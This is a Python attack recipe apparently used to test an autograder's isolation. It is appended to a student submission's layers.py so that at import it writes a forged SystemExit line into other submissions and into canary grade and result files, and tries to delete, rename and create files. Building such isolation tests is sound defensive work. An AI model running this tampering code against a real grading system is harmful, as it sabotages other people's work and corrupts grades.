"""Other submissions: appending to their files, tampering with a canary folder.

Not imported, not collected: tests/attack_recipes.py reads this file as text and splits it at
its `# ---- attack: <name>` lines. Each section is the code of one attack, appended (after the
prelude, prelude.py) to the cs231n/layers.py of one submission: at module level it runs at
import, and the functions it defines replace the stubs. Names starting with `_atk`, `_ATK` or
`_Atk` that a section does not define come from the prelude.
"""


# ---- attack: append to other submissions ---------------------------------------------------------

def _atk_append():
    if not _ATK_ARMED:
        return _atk_report("APPEND", armed=0)
    mark = f"\n# {_ATK['forged']}\nraise SystemExit('{_ATK['forged']}')\n".encode()
    own = _atk_own_package()
    targets, done = set(), []
    for place in [_ATK["submissions"], *_atk_guessed_places()]:
        for directory, folders, files in _atk_walk(place, budget=1.0):
            for name in files:
                if name.endswith((".zip", ".ipynb")) or (
                        name.endswith(".py") and "cs231n" in directory):
                    targets.add(_atk_os.path.join(directory, name))
    for path in sorted(targets):
        if _atk_os.path.realpath(path).startswith(own):
            continue
        try:
            with open(path, "ab") as stream:
                stream.write(mark)
            done.append(path)
        except OSError:
            pass
    canary = _ATK["canary"]
    for name in ("victim.txt", "results.json", "grades.csv", "cs231n/layers.py"):
        try:
            with open(_atk_os.path.join(canary, name), "ab") as stream:
                stream.write(mark)
            done.append(name)
        except OSError:
            pass
    for attempt in (lambda: _atk_os.unlink(_atk_os.path.join(canary, "delete-me.txt")),
                    lambda: _atk_os.rename(_atk_os.path.join(canary, "victim.txt"),
                                           _atk_os.path.join(canary, "renamed.txt")),
                    lambda: open(_atk_os.path.join(canary, f"new-{_ATK['token']}"), "w")):
        try:
            attempt()
            done.append("canary")
        except OSError:
            pass
    outside = [path for path in done if not _atk_in_scratch(path)]
    return _atk_report("APPEND", armed=1, targets=len(targets), outside=len(outside),
                       first=(outside or ["none"])[0][:60])


_ATK_APPENDED = _atk_append()
_atk_replace_stubs(_atk_raising(_ATK_APPENDED))
